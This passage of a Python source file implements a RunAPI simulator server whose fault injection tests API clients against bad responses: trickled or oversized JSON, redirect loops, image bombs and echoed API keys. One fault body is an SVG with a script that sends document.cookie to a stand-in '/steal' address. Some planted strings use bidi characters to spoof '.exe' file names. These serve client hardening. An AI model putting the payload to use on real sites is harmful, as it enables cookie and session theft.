"""The simulator's HTTP surface: a Starlette app following the RunAPI contract, plus ``/_sim/`` control."""

from __future__ import annotations

import asyncio
import base64
import binascii
import functools
import hashlib
import hmac
import json
import logging
import math
import mimetypes
import re
import ssl
import time
import uuid
from collections.abc import Awaitable, Callable, Iterable, Iterator, Mapping
from dataclasses import dataclass
from email.utils import formatdate
from pathlib import Path
from typing import Any, Literal
from urllib.parse import quote, quote_plus, unquote, urlsplit

import anyio
import anyio.to_thread
import httpx
from starlette.applications import Starlette
from starlette.datastructures import UploadFile
from starlette.requests import Request
from starlette.responses import FileResponse, JSONResponse, Response
from starlette.routing import Route
from starlette.types import Message, Receive, Scope, Send

from runapi_mcp.catalog import ActionSpec, ModelSpec
from runapi_mcp.simulator import _png
from runapi_mcp.simulator._models import SETTABLE_CONFIG, Fault, LoggedRequest, SentCallback
from runapi_mcp.simulator._state import Outcome, SimState, Task, UploadedFile, fingerprint, iso
from runapi_mcp.simulator._tasks import (
    PRICE_BY_LONG_SIDE,
    PRICE_DEFAULT,
    ApiError,
    TaskPlan,
    plan_task,
    validate_body,
)

logger = logging.getLogger("runapi_mcp.simulator")

ALL_METHODS = ["GET", "HEAD", "POST", "PUT", "PATCH", "DELETE", "OPTIONS"]
MAX_JSON_BODY = 1024 * 1024
MAX_IDEMPOTENCY_KEY = 512
TASK_ID_HEADER = "X-RunAPI-Task-Id"
_CLIENT_REQUEST_ID = re.compile(r"[\x20-\x7e]{1,512}")
"""An ``X-Client-Request-Id`` RunAPI accepts (printable ASCII, up to 512 characters): echoed in the answer."""
PUBLIC_PATHS = frozenset({"/api/v1/price_quotes", "/api/v1/price_schedules"})
"""Routes that need no key (today's RunAPI; in legacy mode every ``/api/`` route needs one)."""
CURRENCY = "USD"
PRICING_STATUS = "priced"
ESTIMATE_BASIS = "unit_price_x_images"
_RESOLUTION_PRICES = dict(zip(("1k", "2k", "4k"), (cents for _, cents in PRICE_BY_LONG_SIDE), strict=True))
_STATUS_PATH = re.compile(r"/api/v1/(?P<service>[^/]+)/(?:(?P<endpoint>[^/]+)/)?(?P<task_id>[^/]+)")
_S3_XML = (
    '<?xml version="1.0" encoding="UTF-8"?>\n'
    "<Error><Code>{code}</Code><Message>{message}</Message><RequestId>{rid}</RequestId></Error>"
)
_ERROR_CODES = {
    400: "bad_request",
    401: "unauthorized",
    402: "insufficient_credits",
    403: "forbidden",
    404: "not_found",
    409: "conflict",
    413: "payload_too_large",
    422: "validation_error",
    429: "rate_limited",
    500: "internal_error",
    502: "bad_gateway",
    503: "service_unavailable",
    504: "gateway_timeout",
}
_REASONS = {
    400: "Bad Request",
    403: "Forbidden",
    404: "Not Found",
    429: "Too Many Requests",
    500: "Internal Server Error",
    502: "Bad Gateway",
    503: "Service Unavailable",
    504: "Gateway Timeout",
}
_EXPIRED_XML = (
    '<?xml version="1.0" encoding="UTF-8"?>\n'
    "<Error><Code>AccessDenied</Code><Message>Request has expired</Message>"
    "<Expires>{expires}</Expires><ServerTime>{now}</ServerTime><RequestId>{rid}</RequestId></Error>"
)
_NOT_FOUND_XML = (
    '<?xml version="1.0" encoding="UTF-8"?>\n'
    "<Error><Code>NoSuchKey</Code><Message>The specified key does not exist.</Message>"
    "<Key>{key}</Key><RequestId>{rid}</RequestId></Error>"
)
_HTML_PAGE = (
    "<html>\r\n<head><title>{status} {reason}</title></head>\r\n<body>\r\n"
    "<center><h1>{status} {reason}</h1></center>\r\n<hr><center>{message}</center>\r\n"
    "</body>\r\n</html>\r\n"
)
# Bodies a `not_image` fault serves as a picture: what captive portals, CDNs and hostile hosts send.
_NOT_IMAGE_BODIES: dict[str, Callable[[], bytes]] = {
    "html": lambda: (
        b"<!DOCTYPE html>\n<html><head><title>Sign in to continue</title></head>\n<body>"
        b'<h1>Wi-Fi sign in</h1><form action="/login" method="post"><input name="user">'
        b'<input name="password" type="password"></form></body></html>\n'
    ),
    "svg": lambda: (
        b'<?xml version="1.0" encoding="UTF-8"?>\n<svg xmlns="http://www.w3.org/2000/svg" '
        b'width="1024" height="1024" onload="alert(document.domain)">'
        b"<script>fetch('http://127.0.0.1:1/steal?c='+document.cookie)</script>"
        b'<rect width="100%" height="100%" fill="#e33"/></svg>\n'
    ),
    "text": lambda: b"403 Forbidden: hotlinking is not allowed\n",
    "json": lambda: b'{"error":{"message":"image not found","code":"not_found"}}',
    "empty": lambda: b"",
    "truncated_png": lambda: _png.small_png()[:100],
}
_PICTURES: dict[str, Callable[[int, int], bytes]] = {"bomb": _png.bomb_png, "huge_image": _png.huge_png}
PLANTED_STRINGS: dict[str, str] = {
    "mixed": "lone \ud800 high, lone \udfff low, NUL \x00, \u202egnp.exe\u202c, BOM \ufeff, \uffff, bell \x07",
    "high_surrogate": "\ud800",
    "low_surrogate": "\udfff",
    "nul": "before\x00after",
    "bidi": "invoice_\u202efdp.exe\u202c \u2066isolate\u2069",
    "huge": "A" * 1_000_000,
}
"""The strings an ``invalid_unicode`` fault plants, by ``body`` name."""
_PAD = b"A" * 65536
CALLBACK_TIMEOUT_S = 5.0  # a receiver that does not answer in time is given up on (RunAPI does not wait long)


class JSONAnswer(JSONResponse):
    """JSON written with ASCII escapes, as many servers do. That is what lets a planted lone surrogate
    reach the wire (as the six characters ``\\ud800``): no UTF-8 encoder would write it."""

    def render(self, content: Any) -> bytes:
        return json.dumps(content, ensure_ascii=True, allow_nan=False, separators=(",", ":")).encode("ascii")


class _Paced(Response):
    """An answer whose body goes out piece by piece, ``pause`` seconds apart, until done or until the
    client goes away. The disconnect is watched for here: a StreamingResponse only notices it on some ASGI
    versions, and a trickle that outlived its client would keep a task (and its test) alive. Open ones
    are counted (``SimState.open_streams``) so a test can check that its client hung up."""

    def __init__(
        self,
        pieces: Iterable[bytes],
        *,
        status_code: int,
        headers: Mapping[str, str],
        pause: float,
        state: SimState,
    ) -> None:
        self.pieces = pieces
        self.pause = pause
        self.state = state
        self.status_code = status_code
        self.background = None
        self.init_headers(headers)

    async def __call__(self, scope: Scope, receive: Receive, send: Send) -> None:
        self.state.stream_opened()
        try:
            async with anyio.create_task_group() as group:
                group.start_soon(self._watch, receive, group.cancel_scope)
                await send({"type": "http.response.start", "status": self.status_code, "headers": self.raw_headers})
                for i, piece in enumerate(self.pieces):
                    if i:  # also with no pause: let other requests (and the disconnect watch) run
                        await anyio.sleep(self.pause)
                    await send({"type": "http.response.body", "body": piece, "more_body": True})
                await send({"type": "http.response.body", "body": b"", "more_body": False})
                group.cancel_scope.cancel()
        except OSError:  # what ASGI 2.4 servers raise on a send after the client left
            pass
        finally:
            self.state.stream_closed()

    @staticmethod
    async def _watch(receive: Receive, scope: anyio.CancelScope) -> None:
        while (await receive())["type"] != "http.disconnect":
            pass
        scope.cancel()


def _padded(answer: bytes, total: int) -> Iterator[bytes]:
    """``answer`` (a JSON object) with a ``padding`` member first, ``total`` bytes in all, in pieces:
    50 MB go out without ever being in memory."""
    rest = answer[1:]
    rest = b'"' + rest if rest.strip() == b"}" else b'",' + rest
    head = b'{"padding":"'
    left = max(0, total - len(head) - len(rest))
    yield head
    while left > 0:
        piece = _PAD[: min(left, len(_PAD))]
        left -= len(piece)
        yield piece
    yield rest


def _nested(answer: bytes, levels: int) -> bytes:
    """``answer`` (a JSON object) with a ``detail`` member nested ``levels`` arrays deep first."""
    rest = answer[1:]
    if rest.strip() != b"}":
        rest = b"," + rest
    return b'{"detail":' + b"[" * levels + b"]" * levels + rest


def _percent_all(text: str) -> str:
    """Every byte percent-encoded: a key no longer matches itself as a plain substring."""
    return "".join(f"%{byte:02X}" for byte in text.encode("utf-8", "surrogatepass"))


@dataclass
class _Ctx:
    request_id: str
    authorized: bool
    sent_auth: bool
    idempotency_key: str | None
    key: str | None = None
    """The bearer token the request carried: held for this request only, never logged (``echo_key``
    faults plant it in the answer)."""
    json: dict[str, Any] | None = None


Handler = Callable[..., Awaitable[Response]]


def _seconds(value: float) -> str:
    """A Retry-After value: whole seconds as an integer, else a decimal (the client must parse both)."""
    if float(value).is_integer():
        return str(int(value))
    return f"{value:.3f}".rstrip("0").rstrip(".")


def _bearer(header: str | None) -> str | None:
    """The token of an ``Authorization: Bearer`` header, or None."""
    if not header:
        return None
    scheme, _, token = header.strip().partition(" ")
    token = token.strip()
    if scheme.lower() != "bearer" or not token:
        return None
    return token


def _planted(fault: Fault, key: str | None) -> str:
    """The string an ``invalid_unicode`` or ``echo_key`` fault plants (``key``: the caller's bearer key)."""
    if fault.kind == "invalid_unicode":
        return fault.message if fault.message is not None else PLANTED_STRINGS[fault.body or "mixed"]
    key = key or ""
    if fault.where == "message":
        return f"Incorrect API key provided: {key}. Find your API key at https://runapi.ai/dashboard/keys"
    if fault.where == "error":
        return f"Upstream provider rejected the credentials (Authorization: Bearer {key})"
    return key


def _mark_url(url: str, fault: Fault, key: str | None) -> str:
    """An image URL with the fault's string in its query (where="image_url")."""
    if fault.kind == "echo_key":
        query = f"sig={key or ''}&token={_percent_all(key or '')}"
    else:
        query = "u=" + _planted(fault, key)
    return url + ("&" if "?" in url else "?") + query


@functools.cache
def _callback_tls() -> ssl.SSLContext:
    """One TLS context for every callback: building one (loading the CA bundle) takes tens of ms of CPU,
    which each callback would otherwise spend before it is sent."""
    return ssl.create_default_context()


def error_response(err: ApiError) -> JSONAnswer:
    return JSONAnswer(err.body(), status_code=err.status, headers=err.headers)


def base_url(request: Request) -> str:
    return f"{request.url.scheme}://{request.url.netloc}"


def _local_ref(url: str, request: Request) -> tuple[Literal["file", "image"], str, int] | None:
    """Whether ``url`` points at this simulator (its /files/ or /images/ space), and what it names."""
    try:
        parts = urlsplit(url)
        url_port = parts.port
    except ValueError:
        return None
    if parts.scheme not in ("http", "https"):
        return None
    host = (parts.hostname or "").lower()
    server = request.scope.get("server")
    own_port = request.url.port or (server[1] if server else None)
    own_hosts = {"127.0.0.1", "localhost", "::1", (request.url.hostname or "").lower()}
    if server and server[0]:
        own_hosts.add(str(server[0]).lower())
    port = url_port or (443 if parts.scheme == "https" else 80)
    if host not in own_hosts or port != own_port:
        return None
    path = unquote(parts.path)
    m = re.fullmatch(r"/files/([^/]+)", path)
    if m:
        return "file", m.group(1), 0
    m = re.fullmatch(r"/images/([^/]+)/(\d+)\.(?:png|jpg)", path)
    if m:
        return "image", m.group(1), int(m.group(2))
    return "file", path, 0  # ours, but nothing lives there: the task fails with a 404


async def _read_capped(request: Request, limit: int) -> bytes:
    declared = request.headers.get("content-length")
    if declared is not None and declared.isdigit() and int(declared) > limit:
        raise ApiError(413, "payload_too_large", f"Request body is larger than {limit} bytes")
    chunks: list[bytes] = []
    total = 0
    async for chunk in request.stream():
        total += len(chunk)
        if total > limit:
            raise ApiError(413, "payload_too_large", f"Request body is larger than {limit} bytes")
        chunks.append(chunk)
    return b"".join(chunks)


_HEADER_UNSAFE_RE = re.compile(r"[^\x20-\x7e]")


def _route_name(name: str) -> str:
    """A service or action name as routes spell it: ``gpt-image-2.5`` -> ``gpt_image_2_5``."""
    return name.strip().replace("-", "_").replace(".", "_")


def _etag_matches(header: str | None, etag: str) -> bool:
    """Whether ``If-None-Match`` names ``etag`` (or ``*``); weak forms match too (RFC 9110 weak comparison)."""
    if not header:
        return False
    tags = [t.strip() for t in header.split(",")]
    return "*" in tags or any(t.removeprefix("W/") == etag for t in tags)


def _md5_digest(checksum: str) -> bytes | None:
    """The 16 bytes a base64 MD5 checksum names, or None when it is not one."""
    try:
        digest = base64.b64decode(checksum, validate=True)
    except (binascii.Error, ValueError):
        return None
    return digest if len(digest) == 16 else None


def _parse_json(raw: bytes) -> dict[str, Any]:
    try:
        body = json.loads(raw.decode("utf-8")) if raw.strip() else None
    except (UnicodeDecodeError, json.JSONDecodeError) as exc:
        raise ApiError(400, "invalid_json", f"Request body is not valid JSON: {exc}") from None
    if not isinstance(body, dict):
        raise ApiError(400, "invalid_json", "Request body must be a JSON object")
    return body


class SimulatorApp:
    """Request handling; ``app`` is the Starlette application."""

    def __init__(self, state: SimState) -> None:
        self.state = state
        self._background: set[asyncio.Task[None]] = set()
        self._routes: list[tuple[str, re.Pattern[str], Handler]] = [
            ("POST", re.compile(r"/api/v1/files/prepare"), self.prepare_upload),
            ("POST", re.compile(r"/api/v1/files/confirm"), self.confirm_upload),
            ("POST", re.compile(r"/api/v1/files/?"), self.upload),
            ("GET", re.compile(r"/api/v1/me/balance"), self.balance),
            ("GET", re.compile(r"/api/v1/me"), self.me),
            ("GET", re.compile(r"/api/v1/price_schedules"), self.price_schedules),
            ("POST", re.compile(r"/api/v1/price_quotes"), self.price_quote),
            ("POST", re.compile(r"/api/v1/(?P<service>[^/]+)/(?P<endpoint>[^/]+)"), self.create),
            (
                "GET",
                re.compile(r"/api/v1/(?P<service>[^/]+)/(?P<endpoint>[^/]+)/(?P<task_id>[^/]+)"),
                self.status,
            ),
            ("GET", re.compile(r"/api/v1/(?P<service>[^/]+)/(?P<task_id>[^/]+)"), self.status),
            ("GET", re.compile(r"/v1/models"), self.models),
            ("GET", re.compile(r"/images/(?P<task_id>[^/]+)/(?P<name>[^/]+)"), self.image),
            ("GET", re.compile(r"/files/(?P<name>[^/]+)"), self.file),
            ("PUT", re.compile(r"/storage/(?P<token>[^/]+)"), self.storage_put),
            ("GET", re.compile(r"/"), self.index),
        ]
        self.app = Starlette(routes=[Route("/{path:path}", self.dispatch, methods=ALL_METHODS)])

    # -- the front door --------------------------------------------------------------------------
    async def dispatch(self, request: Request) -> Response:
        path = request.url.path
        if path == "/_sim" or path.startswith("/_sim/"):
            try:
                answer = await self.control(request)
            except ApiError as err:
                answer = error_response(err)
            answer.headers["x-request-id"] = "req_" + uuid.uuid4().hex[:24]
            return answer
        arrived = time.monotonic()
        header = request.headers.get("authorization")
        key = _bearer(header)
        ctx = _Ctx(
            request_id="req_" + uuid.uuid4().hex[:24],
            authorized=self._key_ok(key),
            sent_auth=header is not None,
            idempotency_key=request.headers.get("idempotency-key"),
            key=key,
        )
        fault = self.state.take_fault(request.method, path)
        response: Response | None = None
        if fault is not None:
            if fault.kind == "slow":
                await anyio.sleep(fault.delay)
            else:
                response = await self._fault_answer(fault, request, ctx)
        if response is None:
            response = await self._handle(request, ctx)
            if fault is not None:
                response = await self._reshape(fault, request, response)
        self._tag_task(request, response)
        client_id = request.headers.get("x-client-request-id")
        if client_id is not None and _CLIENT_REQUEST_ID.fullmatch(client_id):
            response.headers["X-Client-Request-Id"] = client_id  # accepted values are echoed
        echo = fault is not None and fault.kind == "echo_key" and fault.where == "request_id"
        # The log keeps the real request id below: an echoed key must never reach the log.
        response.headers["x-request-id"] = (ctx.key or "") if echo else ctx.request_id
        query, carried_key = self.state.redact(request.url.query)
        self.state.record(
            LoggedRequest(
                method=request.method,
                path=path,
                status=response.status_code,
                idempotency_key=ctx.idempotency_key,
                authorized=ctx.authorized,
                json=ctx.json,
                time=arrived,
                sent_auth=ctx.sent_auth,
                fault=fault.kind if fault is not None else None,
                request_id=ctx.request_id,
                query=query,
                carried_key=carried_key,
                user_agent=request.headers.get("user-agent", "")[:200],
            )
        )
        return response

    def _tag_task(self, request: Request, response: Response) -> None:
        """Every answer about a task carries ``X-RunAPI-Task-Id``: status reads of a known task get it here
        (fault answers included); creates set it themselves."""
        if TASK_ID_HEADER in response.headers or request.method not in ("GET", "HEAD"):
            return
        match = _STATUS_PATH.fullmatch(request.url.path)
        if match is None:
            return
        task = self.state.get_task(match["task_id"])
        if task is None or task.service != match["service"]:
            return
        if match["endpoint"] is not None and task.endpoint != match["endpoint"]:
            return
        response.headers[TASK_ID_HEADER] = task.id

    def _key_ok(self, token: str | None) -> bool:
        if token is None:
            return False
        expected = self.state.config.api_key
        if expected is None:
            return True
        return hmac.compare_digest(token.encode("utf-8"), expected.encode("utf-8"))

    async def _handle(self, request: Request, ctx: _Ctx) -> Response:
        path = request.url.path
        method = "GET" if request.method == "HEAD" else request.method
        try:
            public = path in PUBLIC_PATHS and not self.state.config.legacy
            # A public route needs no key, but a key that is sent is checked.
            if path.startswith("/api/") and not ctx.authorized and (not public or ctx.sent_auth):
                raise ApiError(401, "unauthorized", "Invalid API key", headers={"WWW-Authenticate": "Bearer"})
            allowed: list[str] = []
            for route_method, pattern, handler in self._routes:
                match = pattern.fullmatch(path)
                if match is None:
                    continue
                if route_method != method:
                    allowed.append(route_method)
                    continue
                return await handler(request, ctx, **match.groupdict())
            if allowed:
                raise ApiError(
                    405,
                    "method_not_allowed",
                    f"{request.method} is not allowed on {path}",
                    headers={"Allow": ", ".join(sorted(set(allowed)))},
                )
            raise ApiError(404, "not_found", f"No route for {request.method} {path}")
        except ApiError as err:
            return error_response(err)
        except Exception:
            logger.exception("simulator error on %s %s", request.method, path)
            return error_response(ApiError(500, "internal_error", "Internal server error"))

    async def _fault_answer(self, fault: Fault, request: Request, ctx: _Ctx) -> Response | None:
        """The answer a fault gives instead of handling the request, or None to handle it."""
        kind = fault.kind
        if kind in ("status", "html", "text", "expired_url", "invalid_unicode"):
            return self._fault_response(fault, ctx)
        if kind == "echo_key":
            # where="request_id" answers normally (with the key as request id) unless given a status.
            return self._fault_response(fault, ctx) if fault.where == "message" or fault.status else None
        content_type = fault.content_type or "image/png"
        if kind == "not_image":
            body = _NOT_IMAGE_BODIES[fault.body or "html"]()
            return Response(body, status_code=fault.http_status, media_type=content_type)
        if kind in _PICTURES:
            assert fault.width is not None and fault.height is not None  # Fault fills them in
            # Built once per process, but the first build of a huge picture takes a while: not on the loop.
            data = await anyio.to_thread.run_sync(_PICTURES[kind], fault.width, fault.height)
            return Response(data, status_code=fault.http_status, media_type=content_type)
        if kind == "redirect":
            location = fault.location
            if location is None:  # back to itself, byte for byte: a loop
                location = request.scope["raw_path"].decode("latin-1")
                if request.url.query:
                    location += "?" + request.url.query
            return Response(b"", status_code=fault.http_status, headers={"Location": location})
        return None

    async def _reshape(self, fault: Fault, request: Request, response: Response) -> Response:
        """The handled answer, as a fault that lets the request through reshapes it."""
        if fault.kind == "lose_response":
            return error_response(
                ApiError(
                    fault.http_status,
                    _ERROR_CODES.get(fault.http_status, "error"),
                    fault.message or "upstream connection reset before the response was sent",
                )
            )
        if fault.kind == "create_error":
            failed = error_response(
                ApiError(
                    fault.http_status,
                    _ERROR_CODES.get(fault.http_status, "error"),
                    fault.message or "upstream error after the task was created",
                )
            )
            task_id = response.headers.get(TASK_ID_HEADER)
            if task_id is not None:
                failed.headers[TASK_ID_HEADER] = task_id
            return failed
        if fault.kind == "malformed_json":
            return self._malformed(response)
        if fault.kind == "trickle":
            return await self._trickle(fault, response)
        if fault.kind == "odd_json":
            return self._odd_json(fault, response)
        return response

    async def _trickle(self, fault: Fault, response: Response) -> Response:
        if isinstance(response, FileResponse):
            body = await anyio.to_thread.run_sync(Path(response.path).read_bytes)
        else:
            body = bytes(response.body)
        headers = {k: v for k, v in response.headers.items() if k != "content-length"}
        headers["content-length"] = str(len(body))  # the real length: the client knows what is coming
        step = fault.chunk or 1
        return _Paced(
            (body[i : i + step] for i in range(0, len(body), step)),
            status_code=response.status_code,
            headers=headers,
            pause=fault.delay,
            state=self.state,
        )

    def _odd_json(self, fault: Fault, response: Response) -> Response:
        answer = getattr(response, "body", None)
        if not isinstance(answer, bytes) or not answer.startswith(b"{"):
            return response  # not a JSON object (another fault's answer): nothing to reshape
        headers = {k: v for k, v in response.headers.items() if k not in ("content-length", "content-type")}
        headers["content-type"] = "application/json"
        if fault.body == "huge":
            # No Content-Length: the client cannot refuse it up front, only by counting as it reads.
            return _Paced(
                _padded(answer, fault.size or 0),
                status_code=response.status_code,
                headers=headers,
                pause=0,
                state=self.state,
            )
        odd = _nested(answer, fault.size or 0) if fault.body == "deep" else b"[" + answer + b"]"
        return Response(odd, status_code=response.status_code, headers=headers)

    def _fault_response(self, fault: Fault, ctx: _Ctx) -> Response:
        status = fault.http_status
        headers: dict[str, str] = {}
        if fault.retry_after is not None:
            if fault.retry_after_date:
                headers["Retry-After"] = formatdate(time.time() + math.ceil(fault.retry_after), usegmt=True)
            else:
                headers["Retry-After"] = _seconds(fault.retry_after)
        reason = _REASONS.get(status, "Error")
        if fault.kind == "html":
            page = _HTML_PAGE.format(status=status, reason=reason, message=fault.message or "nginx")
            # surrogatepass: a lone surrogate in `message` goes out as the invalid UTF-8 it makes.
            encoded = page.encode("utf-8", "surrogatepass")
            return Response(encoded, status_code=status, media_type="text/html", headers=headers)
        if fault.kind == "text":
            text = fault.message or (
                "upstream connect error or disconnect/reset before headers. reset reason: connection failure"
            )
            return Response(
                text.encode("utf-8", "surrogatepass"), status_code=status, media_type="text/plain", headers=headers
            )
        if fault.kind == "expired_url":
            now = time.time()
            body = _EXPIRED_XML.format(
                expires=formatdate(now - 3600, usegmt=True),
                now=formatdate(now, usegmt=True),
                rid=ctx.request_id,
            )
            return Response(body, status_code=status, media_type="application/xml", headers=headers)
        if fault.kind == "invalid_unicode" or (fault.kind == "echo_key" and fault.where == "message"):
            message = _planted(fault, ctx.key)
        else:
            message = fault.message or {
                429: "Rate limit exceeded, please retry later",
                503: "Service temporarily unavailable",
            }.get(status, reason)
        err = ApiError(status, _ERROR_CODES.get(status, "error"), message, field=fault.field, headers=headers)
        return error_response(err)

    @staticmethod
    def _malformed(response: Response) -> Response:
        body = getattr(response, "body", b"")
        if not isinstance(body, bytes) or len(body) < 4 or not body.lstrip().startswith(b"{"):
            body = b'{"id": "'
        truncated = body[: max(2, len(body) // 2)]
        return Response(truncated, status_code=200, media_type="application/json")

    # -- tasks -----------------------------------------------------------------------------------
    async def create(self, request: Request, ctx: _Ctx, service: str, endpoint: str) -> Response:
        action = self.state.catalog.find_route(service, endpoint)
        if action is None:
            raise ApiError(404, "not_found", f"No such action: POST /api/v1/{service}/{endpoint}")
        raw = await _read_capped(request, MAX_JSON_BODY)
        body = _parse_json(raw)
        ctx.json = body
        key = ctx.idempotency_key
        if key is not None and not 1 <= len(key) <= MAX_IDEMPOTENCY_KEY:
            raise ApiError(
                400,
                "invalid_idempotency_key",
                f"Idempotency-Key must be 1..{MAX_IDEMPOTENCY_KEY} characters",
                field="Idempotency-Key",
            )
        fp = fingerprint("POST", action.path, body)
        # Nothing below awaits until the task exists: the check, validation and creation are atomic.
        if key is not None:
            existing = self.state.replay(key, fp)
            if existing is not None:
                return self._created(existing, replayed=True)
        spec = validate_body(action, body)
        self._check_available(spec.slug, action.endpoint)
        self._check_not_expired(body, request)
        plan = plan_task(
            action,
            spec,
            body,
            resolve_local=lambda url: _local_ref(url, request),
            size_of=self.state.source_size,
        )
        task, replayed = self.state.create_task(
            service=action.service,
            endpoint=action.endpoint,
            model=spec.slug,
            path=action.path,
            body=body,
            plan=plan,
            idempotency_key=key,
            fp=fp,
        )
        if not replayed and isinstance(body.get("callback_url"), str):
            self._schedule_callback(task, body["callback_url"], base_url(request))
        return self._created(task, replayed=replayed)

    def _check_available(self, model: str, endpoint: str) -> None:
        """A model in maintenance (503) or disabled (422) is not called (``Simulator.set_catalog_status``)."""
        status = self.state.catalog_status(model, endpoint)
        if status == "maintenance":
            raise ApiError(
                503,
                "model_maintenance",
                f"Model '{model}' is under maintenance; try again later",
                headers={"Retry-After": "60"},
            )
        if status == "disabled":
            raise ApiError(422, "model_disabled", f"Model '{model}' is disabled", field="model")

    def _check_not_expired(self, body: Mapping[str, Any], request: Request) -> None:
        """An uploaded file past its ``expires_at`` is refused, naming the field that carries its URL."""
        for name, value in body.items():
            if not (name.endswith("_url") or name.endswith("_urls")):
                continue
            for url in value if isinstance(value, list) else [value]:
                if not isinstance(url, str):
                    continue
                local = _local_ref(url, request)
                upload = self.state.get_file(local[1]) if local is not None and local[0] == "file" else None
                if upload is not None and self.state.file_expired(upload):
                    raise ApiError(
                        422,
                        "file_expired",
                        f"'{name}' names an uploaded file that expired at {iso(upload.expires_at)}: upload it again",
                        field=name,
                    )

    def _created(self, task: Task, *, replayed: bool) -> Response:
        inner: dict[str, Any] = {"status": "pending", "model": task.model, "created_at": iso(task.created_at)}
        if replayed:
            inner["task_replayed"] = True
        task_id = task.id
        for fault in task.faults:
            if fault.kind == "invalid_unicode" and fault.where == "id":
                task_id = _planted(fault, None)
        style = self.state.config.id_style
        if style == "task_id":
            answer: dict[str, Any] = {"task_id": task_id, **inner}
        elif style == "data":
            answer = {"data": {"id": task_id, **inner}}
        else:
            answer = {"id": task_id, **inner}
        headers = {TASK_ID_HEADER: task.id}
        if replayed:
            headers["Idempotent-Replayed"] = "true"
        return JSONAnswer(answer, headers=headers)

    def status_answer(
        self, task: Task, base: str, now: float | None = None, key: str | None = None
    ) -> tuple[dict[str, Any], bool]:
        """A task's status answer, and whether it is still running (``key``: the poller's bearer key,
        for ``echo_key`` faults)."""
        phase, progress = task.phase(time.monotonic() if now is None else now)
        running = phase in ("pending", "processing")
        status: str = phase
        if not running and task.outcome is not None and task.outcome.status_text:
            status = task.outcome.status_text
        answer: dict[str, Any] = {"id": task.id}
        if self.state.config.id_style == "task_id":
            answer["task_id"] = task.id
        answer.update({"status": status, "model": task.model, "created_at": iso(task.created_at)})
        if self.state.config.report_progress or task.model == "gpt-4o-image":
            answer["progress"] = progress
        if phase == "completed":
            answer["images"] = [
                {
                    "url": f"{base}/images/{task.id}/{out.filename}",
                    "origin_url": f"{base}/images/{task.id}/{out.filename}?origin=1",
                    "width": out.width,
                    "height": out.height,
                    "content_type": out.media_type,
                }
                for out in task.visible_outputs
            ]
            if task.endpoint == "decompose_layers":
                self._layers(answer, task, base)
            elif task.endpoint == "segment_map":
                answer["segments"] = [
                    {"url": image["url"], "name": f"segment {i}", "index": i}
                    for i, image in enumerate(answer["images"])
                ]
        elif phase == "failed":
            answer["error"] = task.error
        if phase == "completed":
            answer["usage"] = self._usage(task)
        if task.faults:
            self._plant(answer, task, phase, base, key)
        return answer, running

    @staticmethod
    def _layers(answer: dict[str, Any], task: Task, base: str) -> None:
        """A layer decomposition also answers ``base_image`` and ``layers`` (runapi-seedream's shape)."""
        layers: list[dict[str, Any]] = []
        for out in task.visible_outputs:
            url = f"{base}/images/{task.id}/{out.filename}"
            if out.role == "layer_background":
                answer["base_image"] = {"url": url}
                continue
            layers.append(
                {
                    "url": url,
                    "z_index": len(layers) + 1,
                    "bounding_box": {"absolute": [0, 0, out.width, out.height], "normalized": [0, 0, 1000, 1000]},
                    "name": f"layer {len(layers) + 1}",
                }
            )
        answer["layers"] = layers

    @staticmethod
    def _usage(task: Task) -> dict[str, Any]:
        """What a completed task cost, as runapi-core 0.10.1 documents it: ``cost`` a float amount in US
        dollars (RunAPI's settlement, not cents), ``generated_images`` the images made. Create, running and
        failed answers carry no ``usage`` (a failed task is not charged)."""
        outcome = task.outcome
        cents = outcome.cost_cents if outcome is not None and outcome.cost_cents is not None else task.plan.price_cents
        return {"cost": cents / 100, "generated_images": len(task.visible_outputs)}

    def _plant(self, answer: dict[str, Any], task: Task, phase: str, base: str, key: str | None) -> None:
        """Shape a status answer as the task's faults say (see ``Fault``)."""
        # The listing first, so that marks on image URLs land on the listed ones.
        for fault in sorted(task.faults, key=lambda f: f.kind != "image_urls"):
            where = fault.where
            if fault.kind == "image_urls":
                if phase == "completed":
                    answer["images"] = self._listed_images(fault, task, base)
            elif where == "error" and phase == "failed":
                answer["error"] = _planted(fault, key)
            elif where == "status" and phase in ("completed", "failed"):
                answer["status"] = _planted(fault, key)
            elif where == "id":
                answer["id"] = _planted(fault, key)
                if "task_id" in answer:
                    answer["task_id"] = answer["id"]
            elif where == "image_url" and phase == "completed":
                if fault.kind == "echo_key" and key:
                    self.state.key_planted((key, _percent_all(key), quote(key, safe=""), quote_plus(key)))
                for image in answer["images"]:
                    image["url"] = _mark_url(image["url"], fault, key)
                    image["origin_url"] = _mark_url(image["origin_url"], fault, key)

    @staticmethod
    def _listed_images(fault: Fault, task: Task, base: str) -> list[dict[str, Any]]:
        outputs = task.plan.outputs
        first = outputs[0] if outputs else None
        urls = fault.urls
        if urls is None:
            urls = [f"{base}/images/{task.id}/{first.filename}"] if first is not None else []
        count = len(urls) if fault.count is None else fault.count
        listed = [urls[i % len(urls)] for i in range(count)] if urls else []
        width, height = (first.width, first.height) if first is not None else (1024, 1024)
        media_type = first.media_type if first is not None else "image/png"
        return [
            {"url": url, "origin_url": url, "width": width, "height": height, "content_type": media_type}
            for url in listed
        ]

    async def status(
        self, request: Request, ctx: _Ctx, service: str, task_id: str, endpoint: str | None = None
    ) -> Response:
        task = self.state.get_task(task_id)
        if task is None or task.service != service or (endpoint is not None and task.endpoint != endpoint):
            raise ApiError(404, "not_found", f"Task {task_id} not found")
        answer, running = self.status_answer(task, base_url(request), key=ctx.key)
        headers: dict[str, str] = {}
        retry_after = self.state.config.status_retry_after
        if running and retry_after is not None:
            headers["Retry-After"] = _seconds(retry_after)
        return JSONAnswer(answer, headers=headers)

    def _schedule_callback(self, task: Task, url: str, base: str) -> None:
        """Call ``url`` back when the task ends (completed or failed), in the background."""
        try:
            parts = urlsplit(url)
            host = (parts.hostname or "").lower()
        except ValueError:
            return
        if host not in ("127.0.0.1", "localhost", "::1"):
            # Without the query: a callback URL carries its receiver's secret.
            logger.info("not calling back %s://%s%s: the simulator only calls loopback URLs",
                        parts.scheme, parts.netloc, parts.path)
            return
        job = asyncio.get_running_loop().create_task(self._callback(task, url, base))
        self._background.add(job)
        job.add_done_callback(self._background.discard)

    async def _callback(self, task: Task, url: str, base: str) -> None:
        """POST the terminal task (its status answer, as RunAPI does) to ``url`` once it ends; recorded in
        ``SimState.callbacks``. ``drop_callback`` and ``slow_callback`` task faults drop or delay it."""
        while True:
            if self.state.get_task(task.id) is not task:
                return  # forgotten by a reset: nobody waits for its callback any more
            answer, running = self.status_answer(task, base)
            if not running:
                break
            at = task.terminal_at()
